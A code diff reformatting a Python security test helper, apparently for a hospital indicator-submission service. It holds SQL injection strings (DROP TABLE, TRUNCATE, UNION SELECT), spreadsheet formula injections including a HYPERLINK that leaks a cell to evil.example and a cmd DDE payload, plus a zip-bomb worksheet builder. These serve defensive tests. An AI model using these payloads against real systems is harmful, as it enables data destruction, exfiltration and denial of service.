@@ -12,17 +12,24 @@ SQL_STRINGS = (
     "'; DROP TABLE submissions; --",
     "Robert'); DELETE FROM hospitals WHERE ('1'='1",
     "1 OR 1=1",
-    "\" OR \"\"=\"",
+    '" OR ""="',
     "x'); SELECT set_config('app.all_provinces', 'on', false); --",
     "$$; TRUNCATE audit_log; $$",
     "%' UNION SELECT credit_code, name FROM hospitals --",
 )
-FORMULAS = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd")
+FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd")
 _serial = itertools.count(1)
 
 # Tables whose row counts must not change when an attack is refused.
-DATA_TABLES = ("hospitals", "networks", "submissions", "submission_values", "submission_value_versions",
-               "submission_events", "indicator_applicability")
+DATA_TABLES = (
+    "hospitals",
+    "networks",
+    "submissions",
+    "submission_values",
+    "submission_value_versions",
+    "submission_events",
+    "indicator_applicability",
+)
 
 
 def credit_code() -> str:
@@ -31,14 +38,27 @@ def credit_code() -> str:
 
 
 def hospital_body(name: str, province: str = "330000") -> dict:
-    return {"province_code": province, "credit_code": credit_code(), "name": name, "level": "三级",
-            "grade": "甲等", "type": "综合", "prefecture_code": province[:2] + "0100", "beds": 500}
+    return {
+        "province_code": province,
+        "credit_code": credit_code(),
+        "name": name,
+        "level": "三级",
+        "grade": "甲等",
+        "type": "综合",
+        "prefecture_code": province[:2] + "0100",
+        "beds": 500,
+    }
 
 
-def values_body(comment: str | None = None, numerator: object = 1, reason: str | None = None,
-                indicator: str = "TST-2009-I.1") -> dict:
-    body: dict = {"values": [{"indicator": indicator, "numerator": numerator, "denominator": 100,
-                              "comment": comment}]}
+def values_body(
+    comment: str | None = None,
+    numerator: object = 1,
+    reason: str | None = None,
+    indicator: str = "TST-2009-I.1",
+) -> dict:
+    body: dict = {
+        "values": [{"indicator": indicator, "numerator": numerator, "denominator": 100, "comment": comment}]
+    }
     if reason is not None:
         body["reason"] = reason
     return body
@@ -51,7 +71,9 @@ def csv_file(rows: list[tuple[str, object, object, str]], encoding: str = "utf-8
 
 def zip_bomb_sheet(size: int = 200 * 1024 * 1024) -> bytes:
     """A worksheet member that inflates ``size`` bytes of padding from a few hundred kilobytes."""
-    head = b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+    head = (
+        b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+    )
     return head + b" " * size + b"<sheetData/></worksheet>"
 
 
